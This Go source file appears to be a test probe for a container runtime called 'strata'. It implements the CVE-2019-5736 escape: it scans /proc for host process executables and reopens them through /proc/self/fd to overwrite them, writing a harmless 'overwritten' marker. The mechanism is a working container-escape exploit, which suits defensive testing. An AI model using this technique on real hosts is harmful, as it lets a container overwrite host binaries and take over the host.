// SPDX-License-Identifier: Apache-2.0

package main

import (
	"fmt"
	"os"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// overwrite looks for a while at the programs of the processes it sees and
// overwrites each that is not of the container: the way of CVE-2019-5736. It
// returns what it has reached.
func overwrite() string {
	for range 100 {
		last := lastPid()
		for _, pid := range []int{1, 2, 3, last - 1, last, last + 1, last + 2} {
			if name := reach("/proc/" + strconv.Itoa(pid) + "/exe"); name != "" {
				return name + "\n"
			}
		}
	}
	return ""
}

// lastPid is the process id that was given last in this namespace
// (proc_loadavg(5)).
func lastPid() int {
	data, _ := os.ReadFile("/proc/loadavg")
	fields := strings.Fields(string(data))
	last, _ := strconv.Atoi(fields[len(fields)-1])
	return last
}

// watch is overwrite without an end; it writes what it reaches at once.
func watch() {
	fmt.Println("ready")
	for {
		fmt.Print(overwrite())
	}
}

func reach(exe string) string {
	fd, err := unix.Open(exe, unix.O_PATH, 0)
	if err != nil {
		return ""
	}
	defer unix.Close(fd)
	link := "/proc/self/fd/" + strconv.Itoa(fd)
	name, _ := os.Readlink(link)
	var theirs, named unix.Stat_t
	unix.Fstat(fd, &theirs)
	if unix.Stat(name, &named); named.Ino == theirs.Ino || sealed(name) {
		return ""
	}
	out, err := unix.Open(link, unix.O_WRONLY, 0)
	if err == nil {
		_, err = unix.Write(out, []byte("overwritten"))
		unix.Close(out)
	}
	return name + " " + word(err)
}

// sealed are the programs of a few hundred bytes that a container may see of
// strata.
func sealed(name string) bool {
	return strings.HasPrefix(name, "/memfd:init ") || strings.HasPrefix(name, "/memfd:launcher ")
}
